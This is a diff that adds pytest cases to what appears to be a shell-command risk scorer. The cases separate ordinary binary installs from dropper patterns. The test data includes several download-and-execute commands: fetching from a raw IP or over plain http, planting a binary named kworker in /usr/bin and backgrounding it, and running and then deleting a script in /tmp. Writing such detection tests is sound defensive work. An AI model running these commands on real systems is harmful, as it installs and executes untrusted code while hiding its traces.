@@ -104,3 +104,19 @@ def test_a_file_that_is_only_named_is_not_read(text):
 )
 def test_a_file_that_is_named_and_read_counts(text):
     assert started(text) in ("medium", "high", "critical")
+
+
+@pytest.mark.parametrize(
+    ("text", "level"),
+    [
+        ("curl -fsSLo /usr/local/bin/jq https://x.example/jq && chmod +x /usr/local/bin/jq && jq --version", "none"),
+        ("wget -qO ~/.local/bin/tool https://x.example/t; chmod 755 ~/.local/bin/tool", "none"),
+        ("curl -fsSLo /usr/local/bin/jq http://x.example/jq && chmod +x /usr/local/bin/jq", "critical"),
+        ("curl -fsSLo /usr/local/bin/jq https://203.0.113.9/jq && chmod +x /usr/local/bin/jq", "critical"),
+        ("wget -O /usr/bin/kworker https://x.example/x && chmod +x /usr/bin/kworker && kworker &", "critical"),
+        ("cd /tmp; wget https://x.example/b.sh; chmod 777 b.sh; sh b.sh; rm -f b.sh", "critical"),
+        ('curl -o "$D/x" https://x.example/x; chmod +x "$D/x"; "$D/x"', "critical"),
+    ],
+)
+def test_a_tool_that_is_installed_is_no_dropper(text, level):
+    assert written(text) == level
